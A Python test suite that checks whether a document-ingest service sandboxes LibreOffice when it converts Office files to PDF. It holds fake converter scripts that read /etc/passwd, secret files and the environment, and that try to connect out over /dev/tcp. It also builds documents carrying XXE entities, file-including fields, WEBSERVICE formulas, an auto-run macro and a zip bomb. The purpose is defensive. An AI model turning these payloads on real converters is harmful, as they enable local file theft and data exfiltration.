"""Office files: read as the PDF that LibreOffice makes; and what a LibreOffice that misbehaves, or a file that reaches out, can do.

The real LibreOffice is used where there is one; its tests are skipped elsewhere. Its faults are played by scripts in its name.
"""

# XML is not broken into lines here: spaces would count.
# ruff: noqa: E501

import asyncio
import contextlib
import os
import subprocess
import sys
import time
from collections.abc import Callable, Collection, Coroutine, Iterable
from pathlib import Path
from typing import Any

import psutil
import pytest

from ingest import (
    ConversionFailed,
    ConverterMissing,
    DocumentLocked,
    IngestError,
    Ingestor,
    Limits,
    NeedsConversion,
    NotADocument,
    SourceInfo,
    TooLarge,
)
from ingest.sources.conversion import convert, office_program
from tests.ingest import format_maker as make
from tests.ingest.conftest import Listener, Reader
from tests.ingest.makers import archive, write_pdf

real = pytest.mark.skipif(office_program() is None, reason="LibreOffice (soffice) is not installed")
linux = pytest.mark.skipif(sys.platform != "linux", reason="only Linux holds a child within these bounds")
SECRET = "swordfish"
TABLE = [["Crane", "Tonnes"], ["Northern", "40"], ["Southern", "25"]]
WORD = make.docx(make.paragraph("A crane of 40 tonnes"))
MADE = {
    "a.docx": ("application/vnd.openxmlformats-officedocument.wordprocessingml.document", WORD),
    "a.xlsx": ("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", make.xlsx(TABLE)),
    "a.odt": ("application/vnd.oasis.opendocument.text", make.odt("A crane of 40 tonnes")),
    "a.ods": ("application/vnd.oasis.opendocument.spreadsheet", make.ods(TABLE)),
    "a.odp": ("application/vnd.oasis.opendocument.presentation", make.odp("A crane of 40 tonnes", "Second slide")),
    "a.rtf": ("application/rtf", make.rtf("A crane of 40 tonnes")),
    "called-doc.doc": ("application/rtf", make.rtf("A crane of 40 tonnes")),
    "a.html": ("text/html", make.html("<h1>Harbour</h1><table><tr><td>A crane of</td><td>40</td></tr></table>")),
}  # fmt: skip


SLOW = ("a.odt", "a.ods", "a.rtf")
"""Further formats that take the same way as those read by the fast tests; LibreOffice takes two seconds for each file."""


def some_slow(names: Iterable[str], slow: Collection[str]) -> list[Any]:
    """The names in order, `slow` ones marked."""
    return [pytest.param(name, marks=[pytest.mark.slow] if name in slow else []) for name in sorted(names)]


def put(path: Path, content: bytes | str) -> Path:
    path.write_bytes(content if isinstance(content, bytes) else content.encode())
    return path


def prepare(reader: Reader, path: Path, name: str | None = None) -> tuple[SourceInfo, Path]:
    copy = path.with_name(path.name + ".copy")
    return reader.run(reader.ingestor.prepare(path, name=name or path.name, copy=copy))


def text_of(reader: Reader, path: Path, count: int) -> str:
    pages = reader.read(path, range(1, count + 1))
    assert not [page.error for page in pages.values() if page.error]
    return "\n".join(pages[number].text for number in sorted(pages))


@pytest.mark.parametrize(
    ("name", "title"),
    [
        ("a.docx", "Word document"),
        ("a.xlsx", "Excel workbook"),
        ("a.odt", "OpenDocument text"),
        ("a.ods", "OpenDocument spreadsheet"),
        ("a.odp", "OpenDocument presentation"),
        ("a.rtf", "RTF"),
    ],
)
def test_a_first_look_alone_says_what_it_is_and_that_more_is_needed(
    reader: Reader, tmp_path: Path, name: str, title: str
) -> None:
    with pytest.raises(NeedsConversion, match=f"LibreOffice makes of it: {title}"):
        reader.probe(put(tmp_path / "a", MADE[name][1]))


@real
@pytest.mark.parametrize("name", some_slow(MADE, SLOW))
def test_office_files_are_read(reader: Reader, tmp_path: Path, name: str) -> None:
    media_type, content = MADE[name]
    path = put(tmp_path / "upload", content)
    info, kept = prepare(reader, path, name)
    assert info.media_type == media_type
    assert info.page_count == (2 if name == "a.odp" else 1)
    assert "Converted to PDF by LibreOffice" in info.notes[0]
    assert kept.read_bytes().startswith(b"%PDF-")
    assert path.read_bytes() == content, "the original is as it was"
    text = text_of(reader, kept, info.page_count)
    assert {"40"} <= set(text.split())
    assert "rane" in text
    assert sorted(p.name for p in tmp_path.iterdir()) == ["upload", "upload.copy"]


@real
@pytest.mark.slow
@pytest.mark.parametrize(("kind", "of"), [("doc", "a.odt"), ("xls", "a.ods"), ("ppt", "a.odp"), ("pptx", "a.odp")])
def test_files_that_libreoffice_writes_itself(reader: Reader, tmp_path: Path, kind: str, of: str) -> None:
    """The old binary formats, and PowerPoint's, whose smallest file is long: made by LibreOffice from OpenDocument."""
    put(tmp_path / of, MADE[of][1])
    program = office_program()
    assert program is not None
    where = f"-env:UserInstallation={(tmp_path / 'profile').as_uri()}"

    subprocess.run([program, where, "--headless", "--convert-to", kind, "--outdir", tmp_path, tmp_path / of],
                   check=True, capture_output=True, timeout=120)  # fmt: skip
    made = tmp_path / f"a.{kind}"
    info, kept = prepare(reader, made)
    assert info.media_type.startswith(("application/msword", "application/vnd.ms-", "application/vnd.openxml"))
    assert "40" in text_of(reader, kept, info.page_count).split()
    with pytest.raises((ConversionFailed, NotADocument)):
        prepare(reader, put(tmp_path / "cut", made.read_bytes()[:3000]), made.name)


@real
def test_headings_become_the_outline(reader: Reader, tmp_path: Path) -> None:
    content = make.odf("text", '<text:h text:outline-level="1">Harbours</text:h><text:p>A crane.</text:p>')
    info, _ = prepare(reader, put(tmp_path / "a.odt", content))
    assert [entry.title for entry in info.outline] == ["Harbours"]


@real
@pytest.mark.slow
@pytest.mark.parametrize("name", ["a.docx", "a.odt", "a.xlsx"])
def test_damaged_office_files(reader: Reader, tmp_path: Path, name: str) -> None:
    whole = MADE[name][1]
    for number, content in enumerate((whole[: len(whole) // 2], whole.replace(b"<", b"\0"), whole[:200] + whole[260:])):
        path = put(tmp_path / f"{number}", content)
        with contextlib.suppress(IngestError):  # or it is repaired
            prepare(reader, path, name)
            (tmp_path / f"{number}.copy").unlink()
        assert [p.name for p in tmp_path.iterdir()] == [f"{number}"], "no copy is left"
        path.unlink()


def test_without_libreoffice_the_error_says_what_is_needed(
    reader: Reader, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    with pytest.raises(ConverterMissing) as caught:
        prepare(reader, put(tmp_path / "a.docx", MADE["a.docx"][1]))
    assert isinstance(caught.value, NotADocument)
    for said in ("Word document", "LibreOffice", "apt install", "save the file as PDF"):
        assert said in str(caught.value)


def test_without_libreoffice_html_is_read_all_the_same(
    reader: Reader, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    path = put(tmp_path / "a.html", MADE["a.html"][1])
    info, kept = prepare(reader, path)
    assert kept == path
    assert "LibreOffice, which does, is not installed" in info.notes[-1]
    assert "Harbour" in text_of(reader, kept, 1)


def test_a_pdf_is_left_as_it_is(reader: Reader, tmp_path: Path) -> None:
    path = write_pdf(tmp_path / "a.pdf", "one")
    assert prepare(reader, path)[1] == path


def ole(*streams: str) -> bytes:
    """The beginning of an old Office file, with the names of its streams."""
    entries = b"".join(
        name.encode("utf-16-le").ljust(64, b"\0") + (2 * len(name) + 2).to_bytes(2, "little") + bytes(62)
        for name in streams
    )
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + entries


@pytest.mark.parametrize(
    ("name", "content"),
    [("a.docx", ole("EncryptionInfo", "EncryptedPackage")), ("a.odt", make.odf("text", "", encrypted=True))],
)
def test_encrypted_office_files(reader: Reader, tmp_path: Path, name: str, content: bytes) -> None:
    with pytest.raises(DocumentLocked, match="save it without one, or as PDF"):
        prepare(reader, put(tmp_path / name, content))


@pytest.mark.parametrize(("stream", "title"), [("WordDocument", "Word 97"), ("Workbook", "Excel 97"), ("Book", "Excel 97")])  # fmt: skip
def test_old_formats_are_told_apart(reader: Reader, tmp_path: Path, stream: str, title: str) -> None:
    with pytest.raises(NeedsConversion, match=title):
        reader.probe(put(tmp_path / "a", ole("Root Entry", stream)))


def test_office_files_that_unpack_to_too_much(tmp_path: Path) -> None:
    reader = Reader(Ingestor(Limits(decompressed_mb=1), workers=1, ocr=False))
    try:
        bomb = archive({"word/document.xml": "x", "word/media/image1.bmp": bytes(2_000_000)})
        with pytest.raises(TooLarge, match="Word document unpacks to more than 1 MB"):
            prepare(reader, put(tmp_path / "a.docx", bomb))
    finally:
        reader.close()


# What a LibreOffice that misbehaves does.


@pytest.fixture
def fake(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[str], Path]:
    """Puts a shell script in LibreOffice's place; $OUT is its output folder, and the folder returned is one it may not write."""
    folder = tmp_path / "bin"
    folder.mkdir()

    def write(script: str) -> Path:
        program = put(folder / "soffice", f'#!/bin/sh\nOUT="$TMPDIR/../out"\n{script}\n')
        program.chmod(0o755)
        monkeypatch.setenv("PATH", f"{folder}{os.pathsep}{os.environ['PATH']}")
        return folder

    return write


def run_convert(tmp_path: Path, limits: Limits | None = None) -> Path:
    target = tmp_path / "made.pdf"
    asyncio.run(convert(put(tmp_path / "a.docx", "x"), target, "Word document", ".docx", limits or Limits()))
    return target


def leftovers(tmp_path: Path) -> list[str]:
    return sorted(p.name for p in tmp_path.iterdir() if p.name not in ("bin", "a.docx"))


def descendants() -> list[psutil.Process]:
    return [p for p in psutil.Process().children(recursive=True) if "sleep" in " ".join(p.cmdline())]


def test_what_it_makes_is_delivered(tmp_path: Path, fake: Callable[[str], Path]) -> None:
    fake('printf "%%PDF-1.7 made" > "$OUT/source.pdf"')
    assert run_convert(tmp_path).read_bytes() == b"%PDF-1.7 made"
    assert leftovers(tmp_path) == ["made.pdf"]


FAULTS = {
    "writes nothing": ("exit 0", "made no PDF"),
    "crashes": ("kill -SEGV $$", r"made no PDF.*\(exit code -11\)"),
    "complains": ('echo "Error: source file could not be loaded"; exit 1', "source file could not be loaded"),
    "writes garbage": ('echo garbage > "$OUT/source.pdf"', "what it made is no PDF"),
    "makes a folder": ('mkdir "$OUT/source.pdf"', "made no PDF"),
    "hangs": ("sleep 600", r"longer than 0.3 s \(setting `limits.conversion_seconds`\)"),
    "hangs with children": ("sleep 600 & setsid sleep 600 & (setsid sh -c 'sleep 600; true' &) ; wait", "longer than 0.3 s"),
    "floods the disk": ('while :; do head -c 1000000 /dev/zero > "$OUT/$((n=n+1))"; done', r"wrote more than 3 MB"),
    "one large file": ('head -c 100000000 /dev/zero > "$OUT/source.pdf"', "no PDF|more than 3 MB"),
}  # fmt: skip


@linux
@pytest.mark.parametrize("fault", sorted(FAULTS))
def test_a_libreoffice_that_misbehaves(tmp_path: Path, fake: Callable[[str], Path], fault: str) -> None:
    script, said = FAULTS[fault]
    fake(script)
    seconds = 0.3 if "hangs" in fault else 20
    began = time.monotonic()
    with pytest.raises(ConversionFailed, match=said):
        run_convert(tmp_path, Limits(conversion_seconds=seconds, decompressed_mb=3))
    assert time.monotonic() - began < 15
    assert not descendants()
    assert leftovers(tmp_path) == []


@linux
def test_processor_time_is_bounded(tmp_path: Path, fake: Callable[[str], Path]) -> None:
    fake("while :; do :; done")
    with pytest.raises(ConversionFailed, match="longer than 1 s"):
        run_convert(tmp_path, Limits(conversion_seconds=1))


@linux
def test_memory_is_bounded(tmp_path: Path, fake: Callable[[str], Path]) -> None:
    fake('dd if=/dev/zero of=/dev/null bs=900M count=1 2>/dev/null && printf "%%PDF" > "$OUT/source.pdf"')
    with pytest.raises(ConversionFailed, match="made no PDF"):
        run_convert(tmp_path, Limits(worker_memory_mb=256))


@linux
def test_the_users_files_can_neither_be_read_nor_written(tmp_path: Path, fake: Callable[[str], Path]) -> None:
    folder = fake(
        'cat "$(dirname "$0")/../secret.txt" /etc/passwd "$HOME/../../secret.txt" > "$OUT/seen"\n'
        'echo x > "$(dirname "$0")/mark"; echo x > /tmp/quire-test-mark; kill -9 $PPID 2>/dev/null\n'
        'printf "%%PDF-" > "$OUT/source.pdf"; cat "$OUT/seen" >> "$OUT/source.pdf"; env >> "$OUT/source.pdf"'
    )
    put(tmp_path / "secret.txt", SECRET)
    os.environ["QUIRE_TEST_SECRET"] = SECRET
    try:
        made = run_convert(tmp_path).read_bytes()
    finally:
        del os.environ["QUIRE_TEST_SECRET"]
    assert SECRET.encode() not in made
    assert b"root:" not in made
    assert not (folder / "mark").exists()
    assert not Path("/tmp/quire-test-mark").exists()


@linux
def test_the_network_can_not_be_reached(tmp_path: Path, fake: Callable[[str], Path], listener: Listener) -> None:
    port = listener.url.rpartition(":")[2]
    python = "/usr/bin/python3" if Path("/usr/bin/python3").exists() else "/bin/false"
    fake(
        f'bash -c "echo x > /dev/tcp/127.0.0.1/{port}"\n'
        f"{python} -c \"import socket; socket.create_connection(('127.0.0.1', {port}))\"\n"
        'printf "%%PDF-" > "$OUT/source.pdf"'
    )
    run_convert(tmp_path)
    assert not listener.called()


def cancelled(work: Coroutine[Any, Any, object], after: float) -> float:
    """Cancels the work; the seconds that it took to end."""

    async def run() -> float:
        task = asyncio.create_task(work)
        await asyncio.sleep(after)
        assert descendants()
        task.cancel()
        began = time.monotonic()
        with pytest.raises(asyncio.CancelledError):
            await task
        return time.monotonic() - began

    return asyncio.run(run())


@linux
def test_cancelling_ends_it_with_all_its_children(tmp_path: Path, fake: Callable[[str], Path]) -> None:
    fake("sleep 600 & setsid sleep 600 & wait")
    path = put(tmp_path / "a.docx", "x")
    assert cancelled(convert(path, tmp_path / "made.pdf", "Word document", ".docx", Limits()), 1.0) < 3
    assert not descendants()
    assert leftovers(tmp_path) == []


@linux
def test_it_ends_when_the_service_is_killed(tmp_path: Path, fake: Callable[[str], Path]) -> None:
    fake(f"sleep 601.{os.getpid()} & setsid sleep 601.{os.getpid()} & wait")
    put(tmp_path / "a.docx", "x")
    code = (
        "import asyncio; from pathlib import Path; from ingest import Limits; from ingest.sources.conversion import convert; "
        f"asyncio.run(convert(Path({str(tmp_path / 'a.docx')!r}), Path({str(tmp_path / 'm')!r}), 'x', '.docx', Limits()))"
    )

    def alive() -> list[psutil.Process]:
        mark = f"601.{os.getpid()}"
        return [p for p in psutil.process_iter(["cmdline"]) if (p.info["cmdline"] or [])[-1:] == [mark]]

    service = subprocess.Popen([sys.executable, "-c", code])
    deadline = time.monotonic() + 15
    while len(alive()) < 2:
        assert time.monotonic() < deadline
        time.sleep(0.1)
    service.kill()
    service.wait()
    while alive():
        assert time.monotonic() < deadline
        time.sleep(0.1)


# What files that reach out get of the real LibreOffice.


def picture_of(link: str) -> str:
    """A linked picture in WordprocessingML."""
    return (
        '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="900000" cy="900000"/><wp:docPr id="1" name="p"/><a:graphic><a:graphicData '
        'uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:nvPicPr><pic:cNvPr id="1" name="p"/><pic:cNvPicPr/>'
        f'</pic:nvPicPr><pic:blipFill><a:blip r:link="{link}"/></pic:blipFill><pic:spPr><a:prstGeom prst="rect"/></pic:spPr></pic:pic>'
        "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
    )  # fmt: skip


REACHING: dict[str, Callable[[str, str], bytes]] = {
    "a.odt": lambda url, file: make.odf(
        "text",
        f'<text:p>crane</text:p><text:section text:name="s"><text:section-source xlink:href="{file}" xlink:show="embed"/></text:section>'
        f'<text:section text:name="u"><text:section-source xlink:href="{url}/s.txt"/></text:section>'
        f'<text:p><draw:frame svg:width="2cm" svg:height="2cm"><draw:image xlink:href="{url}/i.png" xlink:actuate="onLoad"/></draw:frame>'
        f'<draw:frame svg:width="9cm" svg:height="9cm"><draw:floating-frame xlink:href="{file}"/></draw:frame></text:p>',
    ),
    "a.ods": lambda url, file: make.odf(
        "spreadsheet",
        f'<table:table table:name="s"><table:table-source xlink:href="{file}"/><table:table-row><table:table-cell><text:p>crane</text:p></table:table-cell><table:table-cell '
        f'table:formula="of:=WEBSERVICE(&quot;{url}/w&quot;)" office:value-type="string"><text:p>x</text:p></table:table-cell>'
        f"<table:table-cell table:formula=\"of:='{file}'#$Sheet1.A1\" office:value-type=\"string\"><text:p>x</text:p></table:table-cell>"
        "</table:table-row></table:table>",
    ),
    "a.docx": lambda url, file: make.docx(
        make.paragraph("crane")
        + picture_of("r1")
        + f'<w:p><w:fldSimple w:instr=" INCLUDETEXT &quot;{file}&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
        + f'<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;{url}/p.png&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
        + '<w:altChunk r:id="r2"/>',
        (
            ("http://schemas.openxmlformats.org/officeDocument/2006/relationships/image", f"{url}/i.png", ' TargetMode="External"'),
            ("http://schemas.openxmlformats.org/officeDocument/2006/relationships/aFChunk", file, ' TargetMode="External"'),
        ),
    ),
    "entities.docx": lambda url, file: make.docx(
        make.paragraph("crane &e; &n;"), head=f'<!DOCTYPE x [<!ENTITY e SYSTEM "{file}"><!ENTITY n SYSTEM "{url}">]>'
    ),
    "a.rtf": lambda url, file: make.rtf(
        f'crane {{\\field{{\\*\\fldinst INCLUDETEXT "{file}"}}{{\\fldrslt x}}}}{{\\field{{\\*\\fldinst INCLUDEPICTURE "{url}/p.png"}}'
        "{\\fldrslt x}}"
    ),
    "a.html": lambda url, file: make.html(
        f'<p>crane</p><img src="{url}/i.png"><iframe src="{file}"></iframe><embed src="{url}/e"><object data="{file}"></object>',
        f'<link rel="stylesheet" href="{url}/s.css"><meta http-equiv="refresh" content="0; url={url}/r">',
    ),
}  # fmt: skip


@real
@pytest.mark.parametrize("name", some_slow(REACHING, ("a.ods", "a.rtf", "entities.docx")))
def test_files_that_reach_out_get_nothing(reader: Reader, tmp_path: Path, listener: Listener, name: str) -> None:
    secret = put(tmp_path / "secret.txt", f"{SECRET}\n")
    path = put(tmp_path / name, REACHING[name](listener.url, secret.as_uri()))
    try:
        info, kept = prepare(reader, path)
    except ConversionFailed:
        assert name == "entities.docx", "a document with entities may be refused; the others are read"
    else:
        text = text_of(reader, kept, info.page_count)
        assert SECRET not in text
        assert "crane" in text
    assert not listener.called()


@real
def test_macros_do_not_run(reader: Reader, tmp_path: Path) -> None:
    """A Basic macro bound to the opening of the document, which would change its text."""
    ns = "urn:oasis:names:tc:opendocument:xmlns"
    library = 'xmlns:library="http://openoffice.org/2000/library"'
    content = (
        f'<?xml version="1.0"?><office:document-content xmlns:office="{ns}:office:1.0" xmlns:text="{ns}:text:1.0" '
        f'xmlns:script="{ns}:script:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:dom="http://www.w3.org/2001/xml-events" '
        'office:version="1.2"><office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" '
        'script:event-name="dom:load" xlink:href="vnd.sun.star.script:Standard.M.Main?language=Basic&amp;location=document"/>'
        "</office:event-listeners></office:scripts><office:body><office:text><text:p>crane</text:p></office:text></office:body>"
        "</office:document-content>"
    )
    macro = f"Sub Main\nThisComponent.Text.setString(&quot;{SECRET}&quot;)\nEnd Sub"
    document = archive(
        {
            "mimetype": "application/vnd.oasis.opendocument.text",
            "content.xml": content,
            "Basic/script-lc.xml": f'<library:libraries {library}><library:library library:name="Standard" library:link="false"/></library:libraries>',
            "Basic/Standard/script-lb.xml": f'<library:library {library} library:name="Standard"><library:element library:name="M"/></library:library>',
            "Basic/Standard/M.xml": f'<script:module xmlns:script="http://openoffice.org/2000/script" script:name="M" '
            f'script:language="StarBasic">{macro}</script:module>',
            "META-INF/manifest.xml": f'<manifest:manifest xmlns:manifest="{ns}:manifest:1.0"><manifest:file-entry manifest:full-path="/" '
            'manifest:media-type="application/vnd.oasis.opendocument.text"/>'
            + "".join(
                f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="text/xml"/>'
                for name in (
                    "content.xml",
                    "Basic/script-lc.xml",
                    "Basic/Standard/script-lb.xml",
                    "Basic/Standard/M.xml",
                )
            )
            + "</manifest:manifest>",
        }
    )
    info, kept = prepare(reader, put(tmp_path / "a.odt", document))
    assert text_of(reader, kept, info.page_count).strip() == "crane"
